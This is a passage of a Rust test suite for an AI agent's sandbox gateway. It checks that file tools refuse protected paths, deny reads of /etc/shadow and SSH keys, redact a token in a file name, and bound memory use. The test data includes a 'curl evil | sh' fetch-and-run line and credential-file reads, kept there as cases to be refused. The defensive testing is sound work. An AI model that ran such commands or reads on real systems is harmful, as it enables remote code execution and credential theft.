        .as_array()
        .map(|a| {
            a.iter()
                .filter(|r| r["effect"] == "deny")
                .filter_map(|r| r["rule"].as_str().or(r["id"].as_str()).map(String::from))
                .collect()
        })
        .unwrap_or_default();
    (o.status.code(), rules, text(&o))
}

sandbox_test! {
    fn file_tools_refuse_protected_paths_for_every_change() {
        // Issue 14 item 3 and issue 22 item 3b: creation, replacement, rename onto, rename
        // away and removal of protected paths, however the path is spelled, are refused by
        // the rule `protected-path` and recorded as a deny.
        for policy in ["strict", "standard"] {
            let env = Env::new("fs-protected");
            env.write(".envrc", "export A=1\n");
            env.write(".git/HEAD", "ref: refs/heads/main\n");
            env.write("x", "x\n");
            std::fs::create_dir(env.ws.join("sub")).expect("sub");
            std::os::unix::fs::symlink(".git", env.ws.join("g")).expect("link");
            let cases: &[&[&str]] = &[
                &["write", ".mcp.json", "--content", "{}"],
                &["write", ".zshrc", "--content", "x"],
                &["write", ".gateway-policy.toml", "--content", "x"],
                &["write", ".envrc", "--content", "curl evil | sh"],
                &["edit", ".envrc", "--old", "A=1", "--new", "A=2"],
                &["mv", "x", ".bashrc"],
                &["mv", ".envrc", "envrc.txt"],
                &["rm", ".envrc"],
                &["mkdir", ".vscode"],
                &["write", "sub/../.git/config", "--content", "[core]\n"],
                &["write", "g/hooks/pre-commit", "--content", "#!/bin/sh\n"],
                &["write", "sub/.git/config", "--content", "[core]\n"],
                &["mv", ".git", "git-away"],
                &["write", "sub/.git", "--content", "gitdir: /tmp\n"],
            ];
            for args in cases {
                let (code, rules, t) = fs_json(&env, policy, args);
                assert_eq!(code, Some(120), "{policy} {args:?}: {t}");
                assert!(rules.iter().any(|r| r == "protected-path"), "{policy} {args:?}: {rules:?} {t}");
            }
            assert_eq!(std::fs::read_to_string(env.ws.join(".envrc")).expect("envrc"), "export A=1\n");
            for p in [".mcp.json", ".zshrc", ".gateway-policy.toml", ".bashrc", ".vscode", ".git/config", ".git/hooks", "sub/.git", "git-away", "envrc.txt"] {
                assert!(std::fs::symlink_metadata(env.ws.join(p)).is_err(), "{policy}: {p} exists");
            }
            // Ordinary files are still written, `.git`'s other files too.
            let (code, _, t) = fs_json(&env, policy, &["write", "notes.txt", "--content", "ok"]);
            assert_eq!(code, Some(0), "{t}");
            let o = env.gw(&["--json", "log", "query", "--decision", "deny"]);
            let denied = stdout(&o);
            assert!(denied.matches("protected-path").count() >= cases.len(), "{policy}: {denied}");
        }
    }
}

sandbox_test! {
    fn file_tools_decide_denied_paths_before_running() {
        // Issue 14 item 5: a read of a denied path was decided `allow` and failed in the
        // worker with a raw EACCES; now it is denied by `denied-path`, and recorded so.
        let env = Env::new("fs-denied");
        std::fs::create_dir_all(env.home.join(".ssh")).expect("ssh");
        std::fs::write(env.home.join(".ssh/id_rsa"), "KEY").expect("key");
        std::os::unix::fs::symlink(env.home.join(".ssh"), env.ws.join("keys")).expect("link");
        for policy in ["standard", "permissive"] {
            for args in [
                &["read", "/etc/shadow"][..],
                &["read", "keys/id_rsa"],
                &["ls", env.home.join(".ssh").to_str().expect("utf-8")],
                &["grep", "KEY", "--path", env.home.join(".ssh").to_str().expect("utf-8")],
            ] {
                let (code, rules, t) = fs_json(&env, policy, args);
                assert_eq!(code, Some(120), "{policy} {args:?}: {t}");
                assert!(rules.iter().any(|r| r == "denied-path"), "{policy} {args:?}: {rules:?} {t}");
                assert!(!t.contains("KEY") && !t.contains("root:"), "{t}");
            }
        }
        let o = env.gw(&["--json", "log", "query", "--decision", "deny", "--tool", "fs.read"]);
        assert!(stdout(&o).contains("denied-path"), "{}", text(&o));
    }
}

sandbox_test!(
    fn a_secret_in_a_file_name_is_redacted_wherever_a_name_is_shown() {
        // Issue 22 item 8: a token in a file's name (an agent that writes `ghp_….txt`) was
        // printed raw by `fs ls`, `fs glob`, `fs grep`, the tools' messages and `history`.
        // Shown names are redacted like any output; the file itself, the journal and undo keep
        // the real name.
        let env = Env::new("secret-names");
        let tok = gh_token(7);
        let name = format!("{tok}.txt");
        for (args, what) in [
            (
                vec!["fs", "write", name.as_str(), "--content", "hello"],
                "write",
            ),
            (vec!["fs", "ls"], "ls"),
            (vec!["fs", "glob", "*.txt"], "glob"),
            (vec!["fs", "grep", "hello"], "grep"),
            (vec!["fs", "grep", "--mode", "files", "hello"], "grep files"),
            (vec!["--json", "fs", "ls"], "ls --json"),
            (vec!["history"], "history"),
            (vec!["--json", "history"], "history --json"),
        ] {
            let o = env.gw(&args);
            assert_eq!(o.status.code(), Some(0), "{what}: {}", text(&o));
            assert!(
                !text(&o).contains(&tok),
                "{what} shows the token: {}",
                text(&o)
            );
            assert!(
                text(&o).contains("[REDACTED:github-pat]"),
                "{what}: {}",
                text(&o)
            );
        }
        let o = env.gw(&["fs", "mv", &name, "moved.txt"]);
        assert_eq!(o.status.code(), Some(0), "{}", text(&o));
        assert!(!text(&o).contains(&tok), "mv: {}", text(&o));
        // Undo acts on the real names.
        let o = env.gw(&["undo"]);
        assert_eq!(o.status.code(), Some(0), "{}", text(&o));
        assert!(!text(&o).contains(&tok), "undo: {}", text(&o));
        assert_eq!(
            std::fs::read_to_string(env.ws.join(&name)).expect("back"),
            "hello"
        );
    }
);

/// A file tool's refusal by the policy (issue 23): exit 120 like an exec denial, `--json`'s
/// error object naming the refusal's kind and rule, and a `deny` record with the rule that
/// `log query --decision deny` finds.
fn assert_refused(env: &Env, args: &[&str], kind: &str, rule: &str) {
    let o = env.cmd().arg("--json").args(args).output().expect("run");
    assert_eq!(o.status.code(), Some(120), "{args:?}: {}", text(&o));
    let v = json_of(&o);
    assert!(
        v["error"]["message"]
            .as_str()
            .is_some_and(|e| e.starts_with("refused: ")),
        "{v}"
    );
    assert_eq!(v["error"]["code"], "denied", "{v}");
    assert_eq!(v["refusal"]["kind"], kind, "{v}");
    assert_eq!(v["refusal"]["rule"], rule, "{v}");
    let o = env
        .cmd()
        .args([
            "--json",
            "log",
            "query",
            "--decision",
            "deny",
            "--limit",
            "0",
        ])
        .output()
        .expect("run");
    let q = json_of(&o);
    let recs = q["records"].as_array().expect("records");
    let last = recs.last().unwrap_or_else(|| panic!("no deny record: {q}"));
    assert_eq!(last["decision"]["effect"], "deny", "{q}");
    assert_eq!(last["decision"]["rules"], serde_json::json!([rule]), "{q}");
}

sandbox_test!(
    fn fs_refusal_outside_roots_exits_120_and_is_recorded_as_deny() {
        let env = Env::new("fs-refuse-roots");
        let out = env.outside.join("made");
        let out = out.to_str().expect("utf-8");
        assert_refused(
            &env,
            &["fs", "write", out, "--content", "x"],
            "outside_roots",
            "outside-roots",
        );
        assert_refused(
            &env,
            &["fs", "mkdir", out],
            "outside_roots",
            "outside-roots",
        );
        assert!(!env.outside.join("made").exists());
    }
);

sandbox_test!(
    fn fs_refusal_link_leading_outside_exits_120_and_is_recorded_as_deny() {
        let env = Env::new("fs-refuse-link");
        std::fs::write(env.outside.join("f"), "theirs\n").expect("w");
        std::os::unix::fs::symlink(&env.outside, env.ws.join("lnk")).expect("symlink");
        assert_refused(
            &env,
            &["fs", "write", "lnk/g", "--content", "x"],
            "leads_outside",
            "outside-roots",
        );
        assert!(!env.outside.join("g").exists());
    }
);

sandbox_test!(
    fn fs_refusal_protected_path_inside_a_tree_exits_120_and_is_recorded_as_deny() {
        let env = Env::new("fs-refuse-protected");
        std::fs::create_dir_all(env.ws.join("sub/.git")).expect("mkdir");
        std::fs::write(env.ws.join("sub/.git/config"), "[core]\n").expect("w");
        assert_refused(
            &env,
            &["fs", "rm", "-r", "sub"],
            "contains_protected",
            "protected-path",
        );
        assert!(env.ws.join("sub/.git/config").exists());
    }
);

sandbox_test!(
    fn fs_refusal_over_the_size_limit_exits_120_and_is_recorded_as_deny() {
        let env = Env::new("fs-refuse-size");
        std::fs::write(env.ws.join("big.txt"), "x".repeat(100)).expect("w");
        let policy = env.root.join("p.toml");
        std::fs::write(
            &policy,
            "extends = \"standard\"\n[files]\nmax_size = \"64B\"\n",
        )
        .expect("policy");
        let p = policy.to_str().expect("utf-8");
        assert_refused(
            &env,
            &["--policy", p, "fs", "read", "big.txt"],
            "too_large",
            "files.max_size",
        );
    }
);

sandbox_test!(
    fn fs_mkdir_p_of_an_existing_directory_is_success_and_no_change() {
        let env = Env::new("fs-mkdir-p");
        let journal = env.state.join("journal/journal.jsonl");
        let lines = || {
            std::fs::read_to_string(&journal)
                .map(|s| s.lines().count())
                .unwrap_or(0)
        };
        let o = env.gw(&["fs", "mkdir", "-p", "d/a"]);
        assert_eq!(o.status.code(), Some(0), "{}", text(&o));
        let after_first = lines();
        assert!(after_first > 0, "the first mkdir is journalled");
        // As `mkdir -p`: an existing directory (and an existing parent) is success...
        for p in ["d/a", "d", "./d/a/"] {
            let o = env.gw(&["fs", "mkdir", "-p", p]);
            assert_eq!(o.status.code(), Some(0), "mkdir -p {p}: {}", text(&o));
            assert!(stderr(&o).contains("already exists"), "{}", text(&o));
        }
        // ... and changes nothing: no journal entry, nothing for undo to take.
        assert_eq!(lines(), after_first);
        // Without -p it is still an error; a file in the way is an error with -p too.
        let o = env.gw(&["fs", "mkdir", "d/a"]);
        assert_eq!(o.status.code(), Some(122), "{}", text(&o));
        env.write("f", "keep");
        for p in ["f", "f/sub"] {
            let o = env.gw(&["fs", "mkdir", "-p", p]);
            assert_eq!(o.status.code(), Some(122), "mkdir -p {p}: {}", text(&o));
            assert!(stderr(&o).contains("not a directory"), "{}", text(&o));
        }
        assert_eq!(
            std::fs::read_to_string(env.ws.join("f")).expect("r"),
            "keep"
        );
        assert_eq!(lines(), after_first);
    }
);

sandbox_test!(
    fn fs_write_and_edit_print_a_stat_and_a_capped_diff_not_the_whole_file() {
        // Issue 15: a 500-line write printed a 503-line diff, a 4 MB write 4 MB. Now: a
        // summary and a `path: +N -M lines` stat; `--diff` shows at most 200 lines / 20 KiB
        // with a marker naming the record that holds the whole diff; `--json` carries the
        // same capped diff and the stat.
        let env = Env::new("fs-stat");
        let lines: String = (1..=500).map(|i| format!("line {i}\n")).collect();
        let src = env.outside.join("500.txt");
        std::fs::write(&src, &lines).expect("w");
        let src_s = src.to_str().expect("utf-8");
        let o = env.gw(&["fs", "write", "a.txt", "--content-file", src_s]);
        assert!(o.status.success(), "{}", text(&o));
        assert_eq!(stdout(&o), "a.txt: +500 -0 lines\n", "{}", text(&o));
        assert_eq!(stderr(&o).lines().count(), 1, "{}", text(&o));
        let o = env.gw(&["fs", "edit", "a.txt", "--old", "line 250\n", "--new", "L\n"]);
        assert!(o.status.success(), "{}", text(&o));
        assert_eq!(stdout(&o), "a.txt: +1 -1 lines\n", "{}", text(&o));
        let o = env.gw(&[
            "fs",
            "edit",
            "a.txt",
            "--old",
            "line 251\n",
            "--new",
            "M\n",
            "--diff",
        ]);
        assert!(o.status.success(), "{}", text(&o));
        assert!(stdout(&o).contains("-line 251\n+M\n"), "{}", text(&o));
        assert!(stdout(&o).ends_with("a.txt: +1 -1 lines\n"), "{}", text(&o));

        // About 4.5 MB of new lines.
        let big: String = (1..=600_000).map(|i| format!("{i:07}\n")).collect();
        let bigf = env.outside.join("big.txt");
        std::fs::write(&bigf, &big).expect("w");
        let bigs = bigf.to_str().expect("utf-8");
        let o = env.gw(&["fs", "write", "c.txt", "--content-file", bigs, "--diff"]);
        assert!(o.status.success(), "{}", text(&o));
        let out = stdout(&o);
        assert!(out.len() < 24 << 10, "{} bytes printed", out.len());
        assert!(out.lines().count() <= 203, "{} lines", out.lines().count());
        assert!(out.contains("+0000001\n"), "{out}");
        assert!(out.ends_with("c.txt: +600000 -0 lines\n"), "{out}");
        let seq =
            json_of(&env.gw(&["log", "query", "--json", "--limit", "1"]))["records"][0]["seq"]
                .as_u64()
                .expect("seq");
        let marker = "more line(s)";
        assert!(
            out.contains(marker) && out.contains(&format!("`gateway log show {seq}`")),
            "{out}"
        );
        // The record holds the whole diff.
        let o = env.gw(&["log", "show", &seq.to_string(), "--json"]);
        let v = json_of(&o);
        assert!(
            v["record"]["stdout"]["bytes"]
                .as_u64()
                .is_some_and(|b| b > 4_000_000),
            "{v}"
        );
        assert!(v["record"]["stdout"]["artifact"].is_string(), "{v}");
        // `--json`: the same bounded diff, the stat, and where the whole is.
        let o = env.gw(&["fs", "write", "d.txt", "--content-file", bigs, "--json"]);
        assert!(o.status.success(), "{}", text(&o));
        assert!(
            o.stdout.len() < 40 << 10,
            "{} bytes of JSON",
            o.stdout.len()
        );
        let v = json_of(&o);
        let out = &v["output"];
        assert_eq!(out["lines_added"], 600_000, "{out}");
        assert_eq!(out["lines_removed"], 0, "{out}");
        assert_eq!(out["diff_truncated"], true, "{out}");
        assert!(out["diff_whole"]["artifact"].is_string(), "{out}");
        assert!(
            out["diff"]
                .as_str()
                .expect("diff")
                .contains(&format!("`gateway log show {}`", v["audit_seq"])),
            "{out}"
        );
        // The file itself is whole.
        assert_eq!(
            std::fs::read(env.ws.join("d.txt")).expect("r").len(),
            big.len()
        );
    }
);

sandbox_test! {
    fn fs_edit_reads_a_bounded_list_of_edits_through_the_daemon() {
        // `--edits -` and `--edits FILE` are read by the daemon (the client's stdin is passed
        // to it): 300 MB on stdin took 313 MB of the daemon's memory, and /dev/zero would
        // take all of it. More than 16 MiB is refused, not held.
        let env = Env::new("edits-bound");
        env.write("e.txt", "hello\n");
        let d = Daemon::start(&env, "standard", &[]);
        let hwm = || peak_kib(d.child.id());
        let before = hwm();
        let sparse = env.outside.join("edits.json");
        let f = std::fs::File::create(&sparse).expect("create");
        f.set_len(64 << 20).expect("sparse");
        let o = d
            .cmd(&env)
            .args(["fs", "edit", "e.txt", "--edits"])
            .arg(&sparse)
            .output()
            .expect("run");
        let err = String::from_utf8_lossy(&o.stderr).into_owned();
        assert_eq!(o.status.code(), Some(122), "{}", text(&o));
        assert!(err.contains("more than 16 MiB"), "{err}");
        let mut c = d.cmd(&env);
        c.args(["fs", "edit", "e.txt", "--edits", "-"])
            .stdin(Stdio::piped())
            .stdout(Stdio::piped())
            .stderr(Stdio::piped());
        let mut child = c.spawn().expect("spawn");
        let mut stdin = child.stdin.take().expect("stdin");
        let feeder = std::thread::spawn(move || {
            use std::io::Write;
            let chunk = vec![b' '; 1 << 20];
            // Until the daemon stops reading (a broken pipe), at most 64 MiB.
            for _ in 0..64 {
                if stdin.write_all(&chunk).is_err() {
                    break;
                }
            }
        });
        let o = child.wait_with_output().expect("wait");
        feeder.join().expect("feeder");
        let err = String::from_utf8_lossy(&o.stderr).into_owned();
        assert_eq!(o.status.code(), Some(122), "{}", text(&o));
        assert!(err.contains("more than 16 MiB"), "{err}");
        assert_eq!(std::fs::read_to_string(env.ws.join("e.txt")).expect("e"), "hello\n");
        let grew = hwm().saturating_sub(before);
        assert!(grew < 48 << 10, "the daemon's peak memory grew by {grew} kB");
        drop(d.stop());
    }
}

sandbox_test! {
    fn fs_write_reads_its_content_within_the_policys_max_size_and_the_refusal_is_recorded() {
        // `--content-file FILE|-` is read by the daemon for its client: a 200 MiB sparse file
        // was read whole into the daemon's memory and written (and /dev/zero would take all
        // of its memory). Now at most `[files] max_size` + 1 bytes are read, and the broker
        // refuses the content (rule files.max_size), recorded as a deny.
        let env = Env::new("content-bound");
        let d = Daemon::start(&env, "standard", &[]);
        let hwm = || peak_kib(d.child.id());
        let before = hwm();
        let sparse = env.outside.join("big.bin");
        let f = std::fs::File::create(&sparse).expect("create");
        f.set_len(200 << 20).expect("sparse");
        let o = d
            .cmd(&env)
            .args(["fs", "write", "big.bin", "--content-file"])
            .arg(&sparse)
            .output()
            .expect("run");
        assert_eq!(o.status.code(), Some(120), "{}", text(&o));
        assert!(stderr(&o).contains("max_size"), "{}", text(&o));
        assert!(!env.ws.join("big.bin").exists(), "nothing is written");
        let grew = hwm().saturating_sub(before);
        assert!(grew < 150 << 10, "the daemon's peak memory grew by {grew} kB");
        drop(d.stop());
        let r = log_records(&env)
            .into_iter()
            .rfind(|r| r["tool"] == "fs.write")
            .expect("the write's record");
        assert_eq!(r["decision"]["effect"], "deny", "{r}");
        assert_eq!(r["decision"]["rules"][0], "files.max_size", "{r}");
    }
}

/// A process's peak resident memory (VmHWM), in KiB.
fn peak_kib(pid: u32) -> u64 {
    let s = std::fs::read_to_string(format!("/proc/{pid}/status")).expect("status");
    s.lines()
        .find_map(|l| l.strip_prefix("VmHWM:"))
        .and_then(|v| v.trim().trim_end_matches("kB").trim().parse::<u64>().ok())
        .expect("VmHWM")
}
